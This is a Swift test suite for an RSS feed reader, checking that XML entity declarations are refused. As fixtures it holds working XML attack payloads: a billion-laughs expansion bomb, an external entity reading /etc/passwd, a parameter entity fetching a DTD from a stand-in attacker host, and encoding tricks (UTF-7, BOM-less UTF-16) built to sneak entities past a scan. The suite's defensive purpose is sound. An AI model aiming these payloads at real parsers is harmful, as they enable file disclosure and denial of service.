import EventCoding
import Feeds
import Foundation
import Testing

/// Entity declarations are refused before any parsing: no expansion, no external reads.
@Suite struct EntityRefusalTests {
    static let billionLaughs = """
        <?xml version="1.0"?>
        <!DOCTYPE lolz [
         <!ENTITY lol "lol">
         <!ELEMENT lolz (#PCDATA)>
         <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
         <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
         <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
         <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
         <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
         <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
         <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
         <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
         <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
        ]>
        <rss><channel><item><title>&lol9;</title><description>&lol9;</description></item></channel></rss>
        """

    @Test func billionLaughsIsRefusedQuickly() throws {
        let clock = ContinuousClock()
        var results: [Result<Document, InputError>] = []
        let elapsed = clock.measure { results = readFeed(Self.billionLaughs, name: "lol.rss") }
        #expect(elapsed < .milliseconds(200))
        #expect(results.count == 1)
        let e = try #require(failures(results).first)
        #expect(e.place == "line 3")
        #expect(e.message == "the feed declares XML entities (<!ENTITY>); refused to protect against entity expansion")
    }

    @Test func anExternalEntityIsRefused() throws {
        let xml = """
            <?xml version="1.0"?>
            <!DOCTYPE rss [ <!ENTITY xxe SYSTEM "file:///etc/passwd"> ]>
            <rss><channel><item><title>ع</title><description>&xxe;</description></item></channel></rss>
            """
        let results = readFeed(xml, name: "xxe.rss")
        #expect(
            results == [
                .failure(
                    InputError(
                        input: "xxe.rss", place: "line 2", message: "the feed declares XML entities (<!ENTITY>); refused to protect against entity expansion"))
            ])
    }

    @Test func aParameterEntityIsRefused() {
        let xml = "<!DOCTYPE rss [\n<!ENTITY % dtd SYSTEM \"http://attacker.invalid/x.dtd\"> %dtd; ]><rss/>"
        #expect(failures(readFeed(xml)).map(\.place) == ["line 2"])
    }

    @Test func anExternalDTDIsNeverLoaded() throws {
        let dir = FileManager.default.temporaryDirectory.appendingPathComponent("feeds-dtd-\(UUID().uuidString)")
        try FileManager.default.createDirectory(at: dir, withIntermediateDirectories: true)
        defer { try? FileManager.default.removeItem(at: dir) }
        let dtd = dir.appendingPathComponent("evil.dtd")
        try Data("<!ENTITY secret \"LOADED\">".utf8).write(to: dtd)
        let xml = "<!DOCTYPE rss SYSTEM \"\(dtd.absoluteString)\">\n<rss><channel><item><description>نص &secret;</description></item></channel></rss>"
        let results = readFeed(xml)
        #expect(!documents(results).contains { $0.text.contains("LOADED") })
        #expect(failures(results).first?.message.contains("&secret;") == true)
    }

    @Test func entityTextInsideCDATAIsNotADeclaration() {
        let xml = "<rss><channel><item><description><![CDATA[<p>مقال عن <!ENTITY></p>]]></description></item></channel></rss>"
        #expect(documents(readFeed(xml)).count == 1)
    }

    @Test func aDoctypeWithoutEntitiesIsRead() {
        let xml = "<?xml version=\"1.0\"?>\n<!DOCTYPE rss>\n<rss><channel><item><description>نص</description></item></channel></rss>"
        #expect(documents(readFeed(xml)).map(\.text) == ["نص"])
    }

    /// libxml2 follows a declared encoding: in UTF-7, `+ADw-!ENTITY` is `<!ENTITY`, which a scan of
    /// the bytes does not see. (Three levels here, so that the unfixed reader expands a kilobyte
    /// rather than gigabytes.)
    static let utf7Laughs = """
        <?xml version="1.0" encoding="UTF-7"?>
        <!DOCTYPE rss [
         +ADw-!ENTITY lol "lol">
         +ADw-!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
         +ADw-!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
         +ADw-!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
        ]>
        <rss><channel><item><title>t</title><description>&lol3;</description></item></channel></rss>
        """

    @Test func anEncodingOtherThanUTF8IsRefusedByName() throws {
        let results = readFeed(Self.utf7Laughs, name: "utf7.rss")
        #expect(documents(results).isEmpty, "\(documents(results).map { $0.text.prefix(40) })")
        let e = try #require(failures(results).first)
        #expect(results.count == 1)
        #expect(e.place == "line 1")
        #expect(e.message.contains("\"UTF-7\""), "\(e.message)")
        #expect(e.message.contains("only UTF-8"), "\(e.message)")
    }

    @Test func utf8AndASCIIDeclarationsAreRead() {
        for enc in ["UTF-8", "utf-8", "US-ASCII"] {
            let xml = "<?xml version='1.0' encoding='\(enc)' ?>\n<rss><channel><item><description>text</description></item></channel></rss>"
            #expect(documents(readFeed(xml)).map(\.text) == ["text"], "\(enc)")
        }
    }

    /// ASCII spelled as UTF-16 without a BOM (a NUL after every byte) is valid UTF-8, and libxml2
    /// reads it as UTF-16: the entity declaration in it must not get through.
    @Test func utf16WithoutABOMIsRefused() throws {
        let xml = "<!DOCTYPE rss [<!ENTITY a \"aaaaaaaaaa\">]><rss><channel><item><description>&a;&a;</description></item></channel></rss>"
        var data = Data()
        for b in xml.utf8 {
            data.append(b)
            data.append(0)
        }
        let results = FeedReader.read(data, name: "u16.rss")
        #expect(documents(results).isEmpty)
        let e = try #require(failures(results).first)
        #expect(e.place == "line 1, byte 2")
        #expect(e.message.contains("NUL"), "\(e.message)")
    }

    @Test func anItemLongerThanTheLimitIsAnErrorForThatItemOnly() throws {
        let long = String(repeating: "نص ", count: 400)
        let xml = "<rss><channel><item><description>قصير</description></item><item><description>\(long)</description></item></channel></rss>"
        let results = FeedReader.read(Data(xml.utf8), name: "big.rss", maxTextBytes: 1000)
        #expect(documents(results).map(\.text) == ["قصير"])
        let e = try #require(failures(results).first)
        #expect(e.place == "item 2")
        #expect(e.message.contains("1000-byte limit"), "\(e.message)")
    }
}
